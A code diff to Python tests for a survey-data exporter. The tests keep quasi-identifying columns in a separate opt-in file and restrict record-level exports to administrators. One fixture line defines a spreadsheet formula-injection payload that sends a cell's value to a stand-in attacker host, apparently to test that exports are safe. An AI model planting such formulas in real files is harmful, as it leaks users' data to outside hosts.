@@ -19,9 +19,15 @@ EMAIL = "practitioner@example.org"
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
+class FullRecord(ResponsesExporter):
+    """Both files' columns in one (not registered): for the tests of the layout."""
+
+    quasi_identifiers = None
+
+
 def export_csv(tmp_path, options=OPTIONS, exporter=None):
     path = tmp_path / "out.zip"
-    rows = write_export(exporter or ResponsesExporter(), options, "csv", path)
+    rows = write_export(exporter or FullRecord(), options, "csv", path)
     return path, rows
 
 
@@ -62,7 +68,7 @@ def test_every_column_is_present_for_every_skip_path(two_paths, tmp_path):
 def test_export_is_stable_between_two_runs(two_paths, tmp_path):
     first, _ = export_csv(tmp_path)
     second = tmp_path / "again.zip"
-    write_export(ResponsesExporter(), OPTIONS, "csv", second)
+    write_export(FullRecord(), OPTIONS, "csv", second)
     assert read_header(first) == read_header(second)
     assert read_header(first, "codebook.csv") == ["column", "question", "type", "values", "notes"]
 
@@ -169,7 +175,7 @@ def test_xlsx_opens_and_has_the_codebook_sheet(two_paths, tmp_path):
     paid, _volunteer = two_paths
     Answer.objects.filter(response=paid, question__key="job_title").update(text_value=ATTACK)
     path = tmp_path / "out.xlsx"
-    assert write_export(ResponsesExporter(), OPTIONS, "xlsx", path) == 2
+    assert write_export(FullRecord(), OPTIONS, "xlsx", path) == 2
     workbook = load_workbook(path, read_only=True)
     assert workbook.sheetnames == ["data", "codebook"]
     data = list(workbook["data"].iter_rows(values_only=True))
@@ -244,3 +250,34 @@ def test_versions_share_columns_by_question_key(survey, administrator, tmp_path)
     codebook = {row["column"]: row for row in read_zip(path)["codebook.csv"]}
     assert "asked in survey version(s) 1 only" in codebook["employer_name"]["notes"]
     assert "version" not in codebook["job_title"]["notes"]
+
+
+def test_quasi_identifiers_are_only_in_the_opt_in_file(two_paths, tmp_path):
+    from apps.surveys.exporters import ResponseIdentifiersExporter
+
+    paid, volunteer = two_paths
+    main, _ = export_csv(tmp_path, exporter=ResponsesExporter())
+    header = read_header(main)
+    for column in ("employer_name", "job_title", "state_zip_zip3", "role_other_text"):
+        assert column not in header
+    assert {"response_id", "role", "state_zip_state", "hours_per_week"} <= set(header)
+    codebook = [row["column"] for row in read_zip(main)["codebook.csv"]]
+    assert codebook == header
+    second = tmp_path / "identifiers.zip"
+    write_export(ResponseIdentifiersExporter(), OPTIONS, "csv", second)
+    ids = read_header(second)
+    assert ids[0] == "response_id"
+    assert {"employer_name", "job_title", "state_zip_zip3", "role_other_text"} <= set(ids)
+    assert "role" not in ids and "hours_per_week" not in ids
+    rows = by_id(read_zip(second)["data.csv"])
+    assert rows[paid.pk]["state_zip_zip3"] == "787"
+    assert rows[volunteer.pk]["role_other_text"] == "Something else"
+
+
+def test_record_level_exports_are_for_administrators_and_audited():
+    from apps.accounts.roles import Role as StaffRole
+    from apps.surveys.exporters import ResponseIdentifiersExporter
+
+    for exporter in (ResponsesExporter, ResponseIdentifiersExporter):
+        assert exporter.requires_role == StaffRole.ADMINISTRATOR
+        assert exporter.includes_personal_data is True
